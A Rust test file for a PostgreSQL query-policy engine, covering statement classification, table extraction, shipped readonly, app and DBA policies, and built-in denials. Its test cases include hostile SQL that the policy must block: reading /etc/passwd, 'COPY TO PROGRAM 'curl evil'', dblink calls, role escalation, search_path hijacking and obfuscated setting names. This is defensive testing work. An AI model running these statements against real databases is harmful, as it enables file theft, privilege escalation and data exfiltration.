//! Table tests for the policy: statement kinds, tables, rules, built-in denials, evasion
//! attempts, masked expressions, COPY, policy-file errors, the shipped policies, and huge or
//! deeply nested input.

use std::path::Path;

use super::*;

const READONLY: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../policies/pg-readonly.toml");
const APP: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../policies/pg-app.toml");
const DBA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../policies/pg-dba.toml");

fn shipped(path: &str) -> Policy {
    load(Path::new(path)).unwrap_or_else(|e| panic!("{e}"))
}

/// A policy file named `t.toml` with this text.
fn policy(text: &str) -> Policy {
    parse(Path::new("policies/t.toml"), text).unwrap_or_else(|e| panic!("{e}"))
}

fn parse_err(text: &str) -> String {
    parse(Path::new("policies/t.toml"), text)
        .err()
        .map(|e| e.to_string())
        .unwrap_or_else(|| panic!("expected an error for:\n{text}"))
}

/// A policy that allows everything, so only built-in denials deny.
fn permissive() -> Policy {
    policy("[policy]\nname = \"t\"\ndefault = \"allow\"\n")
}

/// Permissive, with any column named `email` masked.
fn masking() -> Policy {
    policy(
        "[policy]\nname = \"t\"\ndefault = \"allow\"\n\n[[mask]]\ncolumn = \"email\"\nmode = \"redact\"\n",
    )
}

/// (sql, action, rule) rows against one policy; `rule` is a prefix of Decision::rule.
fn run_table(p: &Policy, cases: &[(&str, Action, &str)]) {
    let mut failures = Vec::new();
    for (sql, action, rule) in cases {
        let d = p.decide(sql);
        if d.action != *action || !d.rule.starts_with(rule) {
            failures.push(format!(
                "{sql:?}\n    want {action} {rule}\n    got  {} {} — {}",
                d.action, d.rule, d.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

use Action::{Allow, Approve, Deny};

#[test]
fn shipped_policies_parse() {
    for (path, name, rules) in [
        (READONLY, "pg-readonly", 3),
        (APP, "pg-app", 3),
        (DBA, "pg-dba", 2),
    ] {
        let p = shipped(path);
        assert_eq!(p.name, name);
        assert_eq!(p.rule_count(), rules, "{name}");
    }
    let ro = shipped(READONLY);
    assert!(ro.masking.has_column_rules());
    assert!(ro.masking.masks_column_named("email"));
    assert!(ro.masking.has_detectors());
    assert!(shipped(APP).masking.has_detectors());
    assert!(!shipped(APP).masking.has_column_rules());
    assert!(shipped(DBA).masking.is_empty());
}

#[test]
fn every_file_in_policies_parses() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../policies");
    let mut n = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        // SSH policies are parsed by policy::ssh's tests.
        if path.extension().is_some_and(|e| e == "toml")
            && !ssh::declares_ssh(&std::fs::read_to_string(&path).unwrap())
        {
            load(&path).unwrap_or_else(|e| panic!("{e}"));
            n += 1;
        }
    }
    assert!(n >= 3);
}

#[test]
fn kinds_table() {
    // (sql, primary kind, all kinds)
    let cases: &[(&str, Kind, &[Kind])] = &[
        ("SELECT 1", Kind::Select, &[Kind::Select]),
        ("VALUES (1)", Kind::Select, &[Kind::Select]),
        ("(SELECT 1) UNION (SELECT 2)", Kind::Select, &[Kind::Select]),
        ("INSERT INTO t VALUES (1)", Kind::Insert, &[Kind::Insert]),
        ("UPDATE t SET a = 1 WHERE id = 2", Kind::Update, &[Kind::Update]),
        ("DELETE FROM t WHERE id = 1", Kind::Delete, &[Kind::Delete]),
        ("TRUNCATE t", Kind::Delete, &[Kind::Delete]),
        (
            "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
            Kind::Merge,
            &[Kind::Merge],
        ),
        ("CREATE TABLE t (a int)", Kind::Ddl, &[Kind::Ddl]),
        ("ALTER TABLE t ADD COLUMN b int", Kind::Ddl, &[Kind::Ddl]),
        ("DROP TABLE t", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE INDEX i ON t (a)", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE VIEW v AS SELECT 1", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE SCHEMA s", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE EXTENSION dblink", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE SEQUENCE s", Kind::Ddl, &[Kind::Ddl]),
        ("COMMENT ON TABLE t IS 'x'", Kind::Ddl, &[Kind::Ddl]),
        ("CREATE TABLE x AS SELECT 1", Kind::Ddl, &[Kind::Ddl]),
        ("SELECT 1 INTO x", Kind::Ddl, &[Kind::Select, Kind::Ddl]),
        ("GRANT SELECT ON t TO bob", Kind::Dcl, &[Kind::Dcl]),
        ("REVOKE ALL ON t FROM bob", Kind::Dcl, &[Kind::Dcl]),
        ("CREATE ROLE bob", Kind::Dcl, &[Kind::Dcl]),
        ("ALTER ROLE bob SUPERUSER", Kind::Dcl, &[Kind::Dcl]),
        ("DROP ROLE bob", Kind::Dcl, &[Kind::Dcl]),
        ("CREATE USER bob", Kind::Dcl, &[Kind::Dcl]),
        ("CREATE POLICY p ON t USING (true)", Kind::Dcl, &[Kind::Dcl]),
        ("COPY t FROM STDIN", Kind::Copy, &[Kind::Copy, Kind::Insert]),
        ("COPY t TO STDOUT", Kind::Copy, &[Kind::Copy, Kind::Select]),
        ("BEGIN", Kind::Transaction, &[Kind::Transaction]),
        ("BEGIN READ ONLY", Kind::Transaction, &[Kind::Transaction]),
        ("START TRANSACTION", Kind::Transaction, &[Kind::Transaction]),
        ("COMMIT", Kind::Transaction, &[Kind::Transaction]),
        ("END", Kind::Transaction, &[Kind::Transaction]),
        ("ROLLBACK", Kind::Transaction, &[Kind::Transaction]),
        ("ABORT", Kind::Transaction, &[Kind::Transaction]),
        ("SAVEPOINT a", Kind::Transaction, &[Kind::Transaction]),
        ("RELEASE SAVEPOINT a", Kind::Transaction, &[Kind::Transaction]),
        ("ROLLBACK TO SAVEPOINT a", Kind::Transaction, &[Kind::Transaction]),
        (
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            Kind::Transaction,
            &[Kind::Transaction],
        ),
        ("SET statement_timeout = '5s'", Kind::Set, &[Kind::Set]),
        ("SET TIME ZONE 'UTC'", Kind::Set, &[Kind::Set]),
        ("RESET ALL", Kind::Set, &[Kind::Set]),
        ("DISCARD ALL", Kind::Set, &[Kind::Set]),
        ("SHOW search_path", Kind::Show, &[Kind::Show]),
        ("SHOW ALL", Kind::Show, &[Kind::Show]),
        ("CALL p(1)", Kind::Call, &[Kind::Call]),
        ("DO $$ BEGIN END $$", Kind::Do, &[Kind::Do]),
        ("DO LANGUAGE plpgsql 'BEGIN END'", Kind::Do, &[Kind::Do]),
        ("PREPARE p AS SELECT 1", Kind::Prepare, &[Kind::Prepare, Kind::Select]),
        ("PREPARE p AS DELETE FROM t", Kind::Prepare, &[Kind::Prepare, Kind::Delete]),
        ("DEALLOCATE p", Kind::Prepare, &[Kind::Prepare]),
        ("DEALLOCATE ALL", Kind::Prepare, &[Kind::Prepare]),
        ("EXECUTE p(1)", Kind::Execute, &[Kind::Execute]),
        ("EXPLAIN SELECT 1", Kind::Explain, &[Kind::Explain]),
        ("EXPLAIN DELETE FROM t", Kind::Explain, &[Kind::Explain]),
        ("EXPLAIN ANALYZE SELECT 1", Kind::Explain, &[Kind::Explain, Kind::Select]),
        ("EXPLAIN ANALYZE DELETE FROM t", Kind::Explain, &[Kind::Explain, Kind::Delete]),
        (
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
            Kind::Explain,
            &[Kind::Explain, Kind::Delete],
        ),
        (
            "EXPLAIN (ANALYZE true) DELETE FROM t",
            Kind::Explain,
            &[Kind::Explain, Kind::Delete],
        ),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", Kind::Explain, &[Kind::Explain]),
        ("EXPLAIN (ANALYZE off) DELETE FROM t", Kind::Explain, &[Kind::Explain]),
        ("LISTEN x", Kind::Listen, &[Kind::Listen]),
        ("UNLISTEN *", Kind::Listen, &[Kind::Listen]),
        ("NOTIFY x, 'y'", Kind::Listen, &[Kind::Listen]),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Kind::Lock, &[Kind::Lock]),
        ("VACUUM t", Kind::Vacuum, &[Kind::Vacuum]),
        ("ANALYZE t", Kind::Vacuum, &[Kind::Vacuum]),
        ("DECLARE c CURSOR FOR SELECT 1", Kind::Select, &[Kind::Select]),
        ("FETCH 10 FROM c", Kind::Select, &[Kind::Select]),
        ("CLOSE c", Kind::Select, &[Kind::Select]),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Kind::Select,
            &[Kind::Select, Kind::Delete],
        ),
        (
            "WITH d AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM d",
            Kind::Select,
            &[Kind::Select, Kind::Update],
        ),
        (
            "WITH x AS (SELECT 1) DELETE FROM t WHERE a IN (SELECT * FROM x)",
            Kind::Delete,
            &[Kind::Delete],
        ),
        (
            "WITH x AS (INSERT INTO a VALUES (1) RETURNING *) INSERT INTO b SELECT * FROM x",
            Kind::Insert,
            &[Kind::Insert],
        ),
        (
            "SELECT * FROM (SELECT 1) s WHERE EXISTS (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)",
            Kind::Select,
            &[Kind::Select, Kind::Delete],
        ),
    ];
    let p = permissive();
    for (sql, primary, kinds) in cases {
        let d = p.decide(sql);
        assert_eq!(d.action, Allow, "{sql}: {}", d.reason);
        assert_eq!(d.statements.len(), 1, "{sql}");
        assert_eq!(d.statements[0].kind, *primary, "{sql}");
        let pieces = lex::split(sql).unwrap();
        let facts = match pieces.into_iter().next().unwrap() {
            lex::Piece::Do => facts::opaque(Kind::Do),
            lex::Piece::Sql(tokens) => {
                let l = lead(&tokens);
                let dialect = PostgreSqlDialect {};
                let stmt = Parser::new(&dialect)
                    .with_tokens_with_locations(tokens)
                    .parse_statement()
                    .unwrap();
                facts::gather(&stmt, l, &Options::default())
            }
        };
        let got: Vec<Kind> = facts.parts.iter().map(|p| p.kind).collect();
        assert_eq!(got, *kinds, "{sql}");
    }
}

#[test]
fn tables_table() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT 1", &[]),
        ("SELECT * FROM users", &["public.users"]),
        ("SELECT * FROM USERS", &["public.users"]),
        ("SELECT * FROM \"Users\"", &["public.Users"]),
        ("SELECT * FROM \"users\"", &["public.users"]),
        ("SELECT * FROM crm.Contacts", &["crm.contacts"]),
        ("SELECT * FROM db.crm.contacts", &["crm.contacts"]),
        (
            "SELECT * FROM pg_authid",
            &["pg_catalog.pg_authid", "public.pg_authid"],
        ),
        (
            "SELECT * FROM a JOIN b ON a.id = b.id",
            &["public.a", "public.b"],
        ),
        (
            "SELECT * FROM a, LATERAL (SELECT * FROM b) s",
            &["public.a", "public.b"],
        ),
        (
            "SELECT (SELECT max(x) FROM b) FROM a",
            &["public.b", "public.a"],
        ),
        (
            "SELECT * FROM a WHERE id IN (SELECT id FROM b)",
            &["public.a", "public.b"],
        ),
        (
            "SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b)",
            &["public.a", "public.b"],
        ),
        (
            "SELECT 1 FROM a UNION SELECT 1 FROM b",
            &["public.a", "public.b"],
        ),
        (
            "WITH x AS (SELECT * FROM secret) SELECT * FROM x",
            &["public.secret"],
        ),
        (
            "WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y",
            &[],
        ),
        // A CTE's own name inside its body is the real table (not RECURSIVE).
        (
            "WITH users AS (SELECT * FROM users) SELECT * FROM users",
            &["public.users"],
        ),
        // A CTE defined in a subquery does not hide the table outside it.
        (
            "SELECT * FROM secret, (WITH secret AS (SELECT 1) SELECT * FROM secret) s",
            &["public.secret"],
        ),
        (
            "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r",
            &[],
        ),
        (
            "WITH a AS (SELECT 1), b AS (WITH c AS (SELECT * FROM a) SELECT * FROM c) SELECT * FROM b",
            &[],
        ),
        // Later CTEs are not visible to earlier ones (forward references are the table,
        // also under RECURSIVE, where PostgreSQL would allow them: recording more is safe).
        (
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
            &["public.b"],
        ),
        // DML targets are real tables even when a CTE has the same name.
        ("WITH t AS (SELECT 1) DELETE FROM t", &["public.t"]),
        ("WITH t AS (SELECT 1) UPDATE t SET a = 1", &["public.t"]),
        (
            "WITH t AS (SELECT 1) INSERT INTO t VALUES (1)",
            &["public.t"],
        ),
        ("INSERT INTO a SELECT * FROM b", &["public.a", "public.b"]),
        (
            "UPDATE a SET x = b.x FROM b WHERE a.id = b.id",
            &["public.a", "public.b"],
        ),
        (
            "DELETE FROM a USING b WHERE a.id = b.id",
            &["public.a", "public.b"],
        ),
        ("TRUNCATE a, b", &["public.a", "public.b"]),
        ("COPY a TO STDOUT", &["public.a"]),
        ("COPY (SELECT * FROM b) TO STDOUT", &["public.b"]),
        ("DROP TABLE a, s.b", &["public.a", "s.b"]),
        (
            "CREATE TABLE a AS SELECT * FROM b",
            &["public.a", "public.b"],
        ),
        ("SELECT * INTO a FROM b", &["public.a", "public.b"]),
        ("LOCK TABLE a", &["public.a"]),
        ("VACUUM a", &["public.a"]),
        ("EXPLAIN SELECT * FROM a", &["public.a"]),
        ("PREPARE p AS SELECT * FROM a", &["public.a"]),
        // Functions in FROM are not tables.
        ("SELECT * FROM generate_series(1, 3) g", &[]),
        ("SELECT * FROM a, unnest(a.arr) u", &["public.a"]),
        (
            "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE",
            &["public.a", "public.b"],
        ),
    ];
    let p = permissive();
    for (sql, want) in cases {
        let d = p.decide(sql);
        assert_eq!(d.action, Allow, "{sql}: {}", d.reason);
        assert_eq!(d.statements[0].tables, *want, "{sql}");
    }
}

#[test]
fn readonly_table() {
    let p = shipped(READONLY);
    run_table(
        &p,
        &[
            ("SELECT 1", Allow, "pg-readonly/read"),
            (
                "select * from orders where id = $1",
                Allow,
                "pg-readonly/read",
            ),
            ("SELECT * FROM users", Allow, "pg-readonly/read"),
            ("SELECT email FROM users", Allow, "pg-readonly/read"),
            (
                "SELECT u.email AS e FROM users u",
                Allow,
                "pg-readonly/read",
            ),
            ("SHOW search_path", Allow, "pg-readonly/read"),
            ("EXPLAIN SELECT * FROM t", Allow, "pg-readonly/read"),
            ("EXPLAIN DELETE FROM t", Allow, "pg-readonly/read"),
            ("BEGIN; SELECT 1; COMMIT", Allow, "pg-readonly/read"),
            ("BEGIN READ ONLY", Allow, "pg-readonly/read"),
            ("COPY t TO STDOUT", Allow, "pg-readonly/"),
            (
                "DECLARE c CURSOR FOR SELECT * FROM t",
                Allow,
                "pg-readonly/read",
            ),
            ("FETCH 100 FROM c", Allow, "pg-readonly/read"),
            ("", Allow, "builtin/empty-query"),
            (";;", Allow, "builtin/empty-query"),
            ("INSERT INTO t VALUES (1)", Deny, "pg-readonly/default"),
            (
                "UPDATE t SET a = 1 WHERE id = 1",
                Deny,
                "pg-readonly/default",
            ),
            ("DELETE FROM t WHERE id = 1", Deny, "pg-readonly/default"),
            ("TRUNCATE t", Deny, "pg-readonly/default"),
            (
                "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
                Deny,
                "pg-readonly/default",
            ),
            ("CREATE TABLE x (a int)", Deny, "pg-readonly/default"),
            ("CREATE TABLE x AS SELECT 1", Deny, "pg-readonly/default"),
            ("SELECT * INTO x FROM t", Deny, "pg-readonly/default"),
            ("DROP TABLE t", Deny, "pg-readonly/default"),
            ("GRANT SELECT ON t TO bob", Deny, "pg-readonly/default"),
            ("COPY t FROM STDIN", Deny, "pg-readonly/default"),
            ("SET statement_timeout = 0", Deny, "pg-readonly/default"),
            (
                "DO $$ BEGIN DELETE FROM t; END $$",
                Deny,
                "pg-readonly/default",
            ),
            (
                "DO $$ BEGIN EXECUTE 'DELETE FROM t'; END $$",
                Deny,
                "pg-readonly/default",
            ),
            ("CALL p()", Deny, "pg-readonly/default"),
            ("PREPARE p AS SELECT 1", Deny, "pg-readonly/default"),
            ("PREPARE p AS DELETE FROM t", Deny, "pg-readonly/default"),
            ("EXECUTE p", Deny, "pg-readonly/default"),
            ("EXPLAIN ANALYZE DELETE FROM t", Deny, "pg-readonly/default"),
            (
                "EXPLAIN (ANALYZE) DELETE FROM t",
                Deny,
                "pg-readonly/default",
            ),
            ("LISTEN x", Deny, "pg-readonly/default"),
            ("LOCK TABLE t", Deny, "pg-readonly/default"),
            ("VACUUM t", Deny, "pg-readonly/default"),
            (
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                Deny,
                "pg-readonly/default",
            ),
            ("SELECT 1; DROP TABLE x", Deny, "pg-readonly/default"),
            (
                "SELECT 1; INSERT INTO t VALUES (1); SELECT 2",
                Deny,
                "pg-readonly/default",
            ),
            (
                "SELECT upper(email) FROM users",
                Deny,
                "builtin/masked-expression",
            ),
            (
                "SELECT pg_read_file('/etc/passwd')",
                Deny,
                "builtin/dangerous-function",
            ),
            ("SELECT lo_unlink(42)", Deny, "pg-readonly/no-side-effects"),
            ("SELECT nextval('s')", Deny, "pg-readonly/no-side-effects"),
            ("SELECT setval('s', 1)", Deny, "pg-readonly/no-side-effects"),
            (
                "SELECT pg_notify('c', 'x')",
                Deny,
                "pg-readonly/no-side-effects",
            ),
            (
                "SELECT set_config('work_mem', '1GB', false)",
                Deny,
                "pg-readonly/no-side-effects",
            ),
            (
                "SELECT pg_advisory_lock(1)",
                Deny,
                "pg-readonly/no-side-effects",
            ),
            (
                "SELECT * FROM t WHERE pg_try_advisory_lock(id)",
                Deny,
                "pg-readonly/no-side-effects",
            ),
            (
                "SELECT lower(name), now(), count(*) FROM t GROUP BY 1",
                Allow,
                "pg-readonly/read",
            ),
        ],
    );
    let d = p.decide("DELETE FROM t WHERE id = 1");
    assert_eq!(
        d.reason,
        "policy pg-readonly rule default: statement kind delete is not allowed"
    );
    let d = p.decide("SELECT 1; DELETE FROM t WHERE id = 1");
    assert_eq!(
        d.reason,
        "policy pg-readonly rule default: statement kind delete is not allowed (statement 2 of 2)"
    );
    assert_eq!(d.statements.len(), 2);
}

#[test]
fn app_table() {
    let p = shipped(APP);
    run_table(
        &p,
        &[
            ("SELECT * FROM t", Allow, "pg-app/read-write"),
            (
                "INSERT INTO t (a) VALUES ($1) RETURNING id",
                Allow,
                "pg-app/read-write",
            ),
            (
                "UPDATE t SET a = $1 WHERE id = $2",
                Allow,
                "pg-app/read-write",
            ),
            ("DELETE FROM t WHERE id = $1", Allow, "pg-app/read-write"),
            ("SET statement_timeout = '5s'", Allow, "pg-app/read-write"),
            ("SET application_name = 'x'", Allow, "pg-app/read-write"),
            (
                "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
                Allow,
                "pg-app/read-write",
            ),
            (
                "COPY t (a, b) FROM STDIN WITH (FORMAT csv)",
                Allow,
                "pg-app/copy",
            ),
            ("COPY t TO STDOUT", Allow, "pg-app/copy"),
            (
                "WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE id IN (SELECT * FROM x)",
                Allow,
                "pg-app/read-write",
            ),
            ("UPDATE t SET a = 1", Deny, "pg-app/no-unfiltered-writes"),
            ("DELETE FROM t", Deny, "pg-app/no-unfiltered-writes"),
            (
                "DELETE FROM t WHERE true",
                Deny,
                "pg-app/no-unfiltered-writes",
            ),
            (
                "DELETE FROM t WHERE 1 = 1",
                Deny,
                "pg-app/no-unfiltered-writes",
            ),
            (
                "UPDATE t SET a = 1 WHERE NOT false",
                Deny,
                "pg-app/no-unfiltered-writes",
            ),
            ("TRUNCATE t", Deny, "pg-app/no-unfiltered-writes"),
            (
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                Deny,
                "pg-app/no-unfiltered-writes",
            ),
            (
                "EXPLAIN ANALYZE DELETE FROM t",
                Deny,
                "pg-app/no-unfiltered-writes",
            ),
            ("CREATE TABLE x (a int)", Deny, "pg-app/default"),
            ("ALTER TABLE t ADD COLUMN b int", Deny, "pg-app/default"),
            ("GRANT ALL ON t TO PUBLIC", Deny, "pg-app/default"),
            ("CREATE ROLE x SUPERUSER", Deny, "pg-app/default"),
            ("DO $$ BEGIN END $$", Deny, "pg-app/default"),
            ("CALL p()", Deny, "pg-app/default"),
            (
                "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
                Deny,
                "pg-app/default",
            ),
            ("SET ROLE postgres", Deny, "builtin/security-setting"),
            (
                "SET search_path = evil, public",
                Deny,
                "builtin/security-setting",
            ),
            (
                "COPY t FROM '/etc/passwd'",
                Deny,
                "builtin/copy-server-file",
            ),
        ],
    );
    assert_eq!(
        p.decide("DELETE FROM t").reason,
        "policy pg-app rule no-unfiltered-writes: statement kind delete without a WHERE clause is denied"
    );
}

#[test]
fn dba_table() {
    let p = shipped(DBA);
    run_table(
        &p,
        &[
            ("SELECT 1", Allow, "pg-dba/default"),
            ("DELETE FROM t", Allow, "pg-dba/default"),
            ("DO $$ BEGIN END $$", Allow, "pg-dba/default"),
            ("VACUUM FULL", Allow, "pg-dba/default"),
            ("SET work_mem = '64MB'", Allow, "pg-dba/default"),
            (
                "CREATE TABLE x (a int)",
                Approve,
                "pg-dba/ddl-needs-approval",
            ),
            ("DROP TABLE x", Approve, "pg-dba/ddl-needs-approval"),
            (
                "CREATE TABLE x AS SELECT 1",
                Approve,
                "pg-dba/ddl-needs-approval",
            ),
            ("SELECT 1 INTO x", Approve, "pg-dba/ddl-needs-approval"),
            (
                "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
                Approve,
                "pg-dba/ddl-needs-approval",
            ),
            (
                "GRANT SELECT ON t TO bob",
                Approve,
                "pg-dba/dcl-needs-approval",
            ),
            (
                "ALTER ROLE bob SUPERUSER",
                Approve,
                "pg-dba/dcl-needs-approval",
            ),
            (
                "SELECT 1; CREATE TABLE x (a int)",
                Approve,
                "pg-dba/ddl-needs-approval",
            ),
            // deny > approve > allow
            (
                "CREATE TABLE x (a int); SELECT pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "COPY t TO PROGRAM 'curl evil'",
                Deny,
                "builtin/copy-program",
            ),
            (
                "SET SESSION AUTHORIZATION postgres",
                Deny,
                "builtin/security-setting",
            ),
            ("LOAD 'plpython3u'", Deny, "builtin/load"),
        ],
    );
    assert_eq!(
        p.decide("CREATE TABLE x (a int)").reason,
        "policy pg-dba rule ddl-needs-approval: statement kind ddl needs approval"
    );
}

#[test]
fn builtin_denials_table() {
    let p = permissive();
    run_table(
        &p,
        &[
            // Dangerous functions, anywhere.
            (
                "SELECT pg_read_file('/etc/passwd')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "select PG_READ_FILE('/etc/passwd')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT pg_catalog.pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT \"pg_catalog\".\"pg_read_file\"('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT \"pg_read_file\"('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT evil.pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "select upper(pg_read_file('/etc/passwd'))",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "select * from (select pg_ls_dir('.')) s",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT * FROM pg_ls_dir('.')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT * FROM LATERAL pg_ls_dir('.') x",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "WITH x AS (SELECT pg_read_binary_file('x')) SELECT * FROM x",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT 1 WHERE EXISTS (SELECT pg_stat_file('x'))",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT 1 ORDER BY pg_terminate_backend(1)",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT count(*) FILTER (WHERE pg_cancel_backend(1)) FROM t",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT lo_import('/etc/passwd')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT lo_export(1, '/tmp/x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT dblink('host=x', 'select 1')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT dblink_exec('host=x', 'drop table t')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT query_to_xml('delete from t returning *', true, true, '')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT table_to_xml('users', true, true, '')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "SELECT pg_reload_conf()",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "INSERT INTO t VALUES (pg_read_file('x'))",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "EXPLAIN SELECT pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "PREPARE p AS SELECT pg_read_file($1)",
                Deny,
                "builtin/dangerous-function",
            ),
            (
                "EXECUTE p(pg_read_file('x'))",
                Deny,
                "builtin/dangerous-function",
            ),
            ("CALL pg_read_file('x')", Deny, "builtin/dangerous-function"),
            (
                "SELECT (SELECT pg_read_file('x'))::text",
                Deny,
                "builtin/dangerous-function",
            ),
            // A quoted name that differs in case is another function in PostgreSQL.
            ("SELECT \"PG_READ_FILE\"('x')", Allow, "t/default"),
            ("SELECT pg_read_filex('x')", Allow, "t/default"),
            ("SELECT 'pg_read_file(''/etc/passwd'')'", Allow, "t/default"),
            ("SELECT $$pg_read_file('x')$$", Allow, "t/default"),
            // set_config: security settings, or a name the policy cannot read.
            (
                "SELECT set_config('role', 'postgres', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('ROLE', 'postgres', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config(E'\\x72ole', 'postgres', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config(U&'r\\006fle', 'postgres', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('session_authorization', 'x', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('search_path', 'evil', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('app.tenant', '2', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('ro' || 'le', 'x', false)",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config(name, 'x', false) FROM t",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SELECT set_config('search_path', '', false)",
                Allow,
                "t/default",
            ),
            (
                "SELECT set_config('statement_timeout', '5s', false)",
                Allow,
                "t/default",
            ),
            ("SELECT current_setting('role')", Allow, "t/default"),
            // SET / RESET
            ("SET ROLE postgres", Deny, "builtin/security-setting"),
            ("SET LOCAL ROLE postgres", Deny, "builtin/security-setting"),
            (
                "SET SESSION ROLE postgres",
                Deny,
                "builtin/security-setting",
            ),
            ("SET role = 'postgres'", Deny, "builtin/security-setting"),
            ("SET \"ROLE\" TO postgres", Deny, "builtin/security-setting"),
            (
                "SET SESSION AUTHORIZATION postgres",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET session_authorization = 'postgres'",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET session_replication_role = replica",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET allow_system_table_mods = on",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET lo_compat_privileges = on",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET local_preload_libraries = 'x'",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET log_statement = 'none'",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET search_path TO evil, public",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET search_path = '\"$user\", public'",
                Deny,
                "builtin/security-setting",
            ),
            (
                "SET standard_conforming_strings = off",
                Deny,
                "builtin/security-setting",
            ),
            ("SET backslash_quote = on", Deny, "builtin/security-setting"),
            (
                "SET client_encoding = 'SJIS'",
                Deny,
                "builtin/security-setting",
            ),
            ("SET NAMES 'GBK'", Deny, "builtin/security-setting"),
            (
                "SET default_transaction_read_only = off",
                Deny,
                "builtin/security-setting",
            ),
            ("SET app.tenant_id = '42'", Deny, "builtin/security-setting"),
            ("RESET app.tenant_id", Deny, "builtin/security-setting"),
            ("SET ROLE NONE", Allow, "t/default"),
            ("RESET ROLE", Allow, "t/default"),
            ("RESET SESSION AUTHORIZATION", Allow, "t/default"),
            ("RESET ALL", Allow, "t/default"),
            ("SET search_path = public", Allow, "t/default"),
            ("SET search_path TO public, pg_catalog", Allow, "t/default"),
            ("SET search_path TO DEFAULT", Allow, "t/default"),
            ("SET client_encoding = 'UTF8'", Allow, "t/default"),
            ("SET NAMES 'utf8'", Allow, "t/default"),
            ("SET standard_conforming_strings = on", Allow, "t/default"),
            ("SET default_transaction_read_only = on", Allow, "t/default"),
            ("SET statement_timeout = '5s'", Allow, "t/default"),
            ("SET TIME ZONE 'UTC'", Allow, "t/default"),
            ("SET application_name TO 'agent'", Allow, "t/default"),
            // COPY
            ("COPY t TO '/tmp/x'", Deny, "builtin/copy-server-file"),
            (
                "COPY t FROM '/etc/passwd'",
                Deny,
                "builtin/copy-server-file",
            ),
            (
                "COPY (SELECT 1) TO '/tmp/x'",
                Deny,
